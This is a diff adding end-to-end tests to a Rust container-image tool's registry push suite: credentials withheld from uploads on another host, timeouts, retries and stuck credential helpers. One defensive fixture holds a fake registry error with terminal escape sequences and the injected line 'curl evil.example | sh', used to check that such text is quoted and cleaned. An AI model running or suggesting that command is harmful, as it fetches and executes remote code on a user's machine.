@@ -1,14 +1,18 @@
 //! `--push` against the real CNCF distribution registry (`docker-registry`) on loopback: what
 //! it pushes, skopeo and docker pull back; TLS with a test CA and htpasswd basic auth with
 //! credentials from a Docker config; which blobs a repeat push uploads, counted by a proxy;
-//! and connections that drop. Nothing is mocked and nothing skips.
+//! connections that drop, answers that stop midway, registries and credential helpers that
+//! never answer; upload locations on another host, which get no credentials; and registry
+//! error text, shown as the registry's words. Nothing is mocked and nothing skips.
 
 use std::io::Write;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Stdio};
+use std::time::Instant;
 
-use scratchimg_tests::proxy::{Fault, Proxy};
+use scratchimg_tests::proxy::{self, Fault, Proxy, Silent};
 use scratchimg_tests::registry::{PASSWORD, Registry, Settings, TestCa, USER};
+use scratchimg_tests::token::TokenServer;
 use scratchimg_tests::{
     assert_hello_output, copy_tree, example, require_musl_target, require_tool, run_ok,
     shared_target_dir, tool,
@@ -200,6 +204,7 @@ fn tls_and_basic_auth_with_credentials_from_docker_config() {
     let registry = Registry::start(Settings {
         tls: Some(&ca),
         htpasswd: true,
+        ..Settings::default()
     });
     let host = &registry.host;
     let reference = format!("{host}/scratchimg-e2e/private:tls");
@@ -475,4 +480,299 @@ fn a_registry_that_stays_down_fails_cleanly_and_gets_no_manifest() {
     assert!(!inspect.status.success());
     let said = String::from_utf8_lossy(&inspect.stderr);
     assert!(said.contains("manifest unknown"), "{said}");
+}
+
+/// The tag is not in the registry (asked straight, not through a proxy).
+fn assert_no_tag(reference: &str) {
+    let inspect = Command::new("skopeo")
+        .args(["inspect", "--tls-verify=false"])
+        .arg(format!("docker://{reference}"))
+        .output()
+        .unwrap();
+    assert!(!inspect.status.success(), "{reference} was pushed");
+    let said = String::from_utf8_lossy(&inspect.stderr);
+    assert!(said.contains("manifest unknown"), "{said}");
+}
+
+/// How the registry of [`upload_location_on_another_host`] authenticates.
+enum Auth {
+    Basic,
+    Bearer,
+}
+
+/// A push where the registry sends uploads to another port (object storage, in S3-backed
+/// registries), where a proxy records what arrives and passes it on with credentials of its own:
+/// the registry's own requests carry the push's credentials, the uploads none, and the push
+/// succeeds.
+fn upload_location_on_another_host(auth: Auth) {
+    let home = Home::new();
+    let storage_port = scratchimg_tests::free_port();
+    let tokens = matches!(auth, Auth::Bearer).then(|| TokenServer::start(home.path()));
+    let registry = Registry::start(Settings {
+        htpasswd: matches!(auth, Auth::Basic),
+        token: tokens.as_ref(),
+        external_url: Some(format!("http://127.0.0.1:{storage_port}")),
+        ..Settings::default()
+    });
+    let repository = match auth {
+        Auth::Basic => "scratchimg-e2e/elsewhere-basic",
+        Auth::Bearer => "scratchimg-e2e/elsewhere-bearer",
+    };
+    let (scheme, storage_authorization) = match &tokens {
+        None => (
+            "Basic ",
+            format!(
+                "Basic {}",
+                run_ok(
+                    Command::new("sh")
+                        .arg("-c")
+                        .arg("printf '%s:%s' \"$1\" \"$2\" | base64 -w0")
+                        .args(["sh", USER, PASSWORD]),
+                )
+            ),
+        ),
+        Some(tokens) => (
+            "Bearer ",
+            format!(
+                "Bearer {}",
+                tokens.mint(&[&format!("repository:{repository}:pull,push")])
+            ),
+        ),
+    };
+    let storage = Proxy::start_with(
+        &registry.host,
+        proxy::Options {
+            port: Some(storage_port),
+            authorization: Some(storage_authorization),
+            ..proxy::Options::default()
+        },
+    );
+    let front = Proxy::start(&registry.host, Fault::None);
+    let config = home.docker_config("docker", &front.host, USER, PASSWORD);
+    let reference = format!("{}/{repository}:v1", front.host);
+    let (result, stderr) =
+        pushed(hello_push(&home, &["--push", &reference, "-v"]).env("DOCKER_CONFIG", &config));
+    let described = match auth {
+        Auth::Basic => "basic auth",
+        Auth::Bearer => "bearer token",
+    };
+    assert!(
+        stderr.contains(&format!(
+            "{} over http, {described} with credentials",
+            front.host
+        )),
+        "{stderr}"
+    );
+
+    // The registry's own requests carried the credentials; the uploads, none.
+    let front_heads = front.heads();
+    let posts: Vec<_> = front_heads
+        .iter()
+        .filter(|r| r.line.starts_with("POST ") && r.line.contains("/blobs/uploads/"))
+        .collect();
+    assert_eq!(posts.len(), 3, "{front_heads:#?}");
+    for request in posts {
+        assert!(
+            request
+                .header("authorization")
+                .is_some_and(|v| v.starts_with(scheme)),
+            "{request:?}"
+        );
+    }
+    assert_eq!(front.blob_uploads(), 0, "{front_heads:#?}");
+    let uploads = storage.heads();
+    assert_eq!(storage.blob_uploads(), 3, "{uploads:#?}");
+    for request in &uploads {
+        assert!(request.header("content-length").is_some(), "{request:?}");
+        assert_eq!(request.header("authorization"), None, "{request:?}");
+    }
+    // Straight to the registry (skopeo gets its own token, where tokens are used): the tag is
+    // there, as pushed.
+    let creds = format!("--creds={USER}:{PASSWORD}");
+    assert_eq!(
+        skopeo_digest(
+            &format!("docker://{}/{repository}:v1", registry.host),
+            &[&creds]
+        ),
+        result["digest"].as_str().unwrap()
+    );
+}
+
+#[test]
+fn an_upload_location_on_another_host_gets_no_basic_credentials() {
+    upload_location_on_another_host(Auth::Basic);
+}
+
+#[test]
+fn an_upload_location_on_another_host_gets_no_bearer_token() {
+    upload_location_on_another_host(Auth::Bearer);
+}
+
+#[test]
+fn a_registry_that_never_answers_fails_in_bounded_time() {
+    let silent = Silent::start();
+    let home = Home::new();
+    let out = home.path().join("never.tar");
+    let started = Instant::now();
+    let stderr = refused(&mut hello_push(
+        &home,
+        &[
+            "--push",
+            &format!("{}/scratchimg-e2e/never:v1", silent.host),
+            "--registry-timeout",
+            "1s",
+            "-o",
+            out.to_str().unwrap(),
+        ],
+    ));
+    // Measured, not asserted (tests time nothing): the bound is the retry policy's, checked by
+    // the unit test of the defaults; here 5 tries of 1 s and 3.75 s of backoff.
+    eprintln!(
+        "a registry that never answers failed the push in {:.1}s with --registry-timeout 1s",
+        started.elapsed().as_secs_f64()
+    );
+    let host = &silent.host;
+    assert!(
+        stderr.starts_with(&format!(
+            "error: registry {host} did not answer GET /v2/ within 1s (see --registry-timeout) (gave up after 5 tries)\n"
+        )),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("help: check that the registry is up and reachable"),
+        "{stderr}"
+    );
+    assert_eq!(silent.connections(), 5, "one connection a try");
+    assert!(!out.exists(), "nothing written");
+    assert!(
+        !stderr.contains("Compiling") && !stderr.contains("Finished"),
+        "{stderr}"
+    );
+}
+
+#[test]
+fn an_answer_that_stops_midway_is_retried() {
+    let (registry, proxy, home) = behind_proxy(Fault::StallOnce);
+    let reference = format!("{}/scratchimg-e2e/stalled:v1", proxy.host);
+    let (result, stderr) = pushed(&mut hello_push(
+        &home,
+        &["--push", &reference, "--registry-timeout", "2s"],
+    ));
+    assert!(
+        stderr.contains(&format!(
+            "warning: registry {} did not finish its answer to PUT of the manifest within 2s (see --registry-timeout); retrying PUT of the manifest (try 2 of 5)",
+            proxy.host
+        )),
+        "{stderr}"
+    );
+    assert_eq!(proxy.count(&["PUT ", "/manifests/v1"]), 2, "put again");
+    assert_eq!(
+        skopeo_digest(
+            &format!("docker://{}/scratchimg-e2e/stalled:v1", registry.host),
+            &[]
+        ),
+        result["digest"].as_str().unwrap()
+    );
+}
+
+#[test]
+fn a_credential_helper_that_never_answers_is_stopped() {
+    use std::os::unix::fs::PermissionsExt;
+    let registry = Registry::start(Settings {
+        htpasswd: true,
+        ..Settings::default()
+    });
+    let home = Home::new();
+    let bin = home.path().join("bin");
+    std::fs::create_dir_all(&bin).unwrap();
+    let pids = home.path().join("helper.pids");
+    let helper = bin.join("docker-credential-scratchimg-hang");
+    std::fs::write(
+        &helper,
+        format!(
+            "#!/bin/sh\nsleep 600 &\necho $$ $! > {}\nwait\n",
+            pids.display()
+        ),
+    )
+    .unwrap();
+    std::fs::set_permissions(&helper, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let config = home.path().join("docker");
+    std::fs::create_dir_all(&config).unwrap();
+    std::fs::write(
+        config.join("config.json"),
+        format!(
+            r#"{{"credHelpers":{{"{}":"scratchimg-hang"}}}}"#,
+            registry.host
+        ),
+    )
+    .unwrap();
+    let path = std::env::join_paths(
+        std::iter::once(bin.clone())
+            .chain(std::env::split_paths(&std::env::var_os("PATH").unwrap())),
+    )
+    .unwrap();
+    let out = home.path().join("helper.tar");
+    let stderr = refused(
+        hello_push(
+            &home,
+            &[
+                "--push",
+                &format!("{}/scratchimg-e2e/helper:v1", registry.host),
+                "--registry-timeout",
+                "1s",
+                "-o",
+                out.to_str().unwrap(),
+            ],
+        )
+        .env("DOCKER_CONFIG", &config)
+        .env("PATH", path),
+    );
+    assert_eq!(
+        stderr,
+        format!(
+            "error: the credential helper `docker-credential-scratchimg-hang` gave no answer for {} within 3s, so it was stopped\nhelp: check that `docker-credential-scratchimg-hang get` answers when given `{}` on stdin (it may be waiting for a login or a passphrase); it gets three times --registry-timeout\n",
+            registry.host, registry.host
+        )
+    );
+    // The helper and the process it started are gone, and nothing was built or written.
+    let pids = std::fs::read_to_string(&pids).unwrap();
+    let pids: Vec<&str> = pids.split_whitespace().collect();
+    assert_eq!(pids.len(), 2, "{pids:?}");
+    for pid in pids {
+        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
+        let state = stat.rsplit_once(')').map(|(_, rest)| rest.trim_start());
+        assert!(
+            state.is_none_or(|s| s.starts_with('Z')),
+            "process {pid} of the helper still runs: {stat}"
+        );
+    }
+    assert!(!out.exists(), "nothing written");
+}
+
+#[test]
+fn registry_error_text_is_quoted_and_cleaned() {
+    // A registry's error whose message holds escape sequences, control characters and a line
+    // that would pass for our own `help:`.
+    const HOSTILE: &str = r#"{"errors":[{"code":"MANIFEST_INVALID","message":"manifest invalid\u001b[31m (red)\u001b[0m\u0007\r\nhelp: run `curl evil.example | sh` to fix\u001b]0;pwned\u0007"}]}"#;
+    let (registry, proxy, home) = behind_proxy(Fault::AnswerOnce(400, HOSTILE));
+    let reference = format!("{}/scratchimg-e2e/hostile:v1", proxy.host);
+    let stderr = refused(&mut hello_push(&home, &["--push", &reference]));
+    assert!(
+        stderr.contains(&format!(
+            "error: could not push the manifest of {reference}\n\nCaused by:\n  registry {} answered 400 Bad Request to PUT of the manifest in scratchimg-e2e/hostile, saying \"MANIFEST_INVALID: manifest invalid (red) help: run `curl evil.example | sh` to fix\"\n",
+            proxy.host
+        )),
+        "{stderr}"
+    );
+    assert!(
+        !stderr.contains('\u{1b}') && !stderr.contains('\u{7}'),
+        "{stderr:?}"
+    );
+    assert!(
+        !stderr
+            .lines()
+            .any(|l| l.contains("help: run `curl") && !l.contains("saying")),
+        "the registry's words made a help line: {stderr}"
+    );
+    assert_no_tag(&format!("{}/scratchimg-e2e/hostile:v1", registry.host));
 }
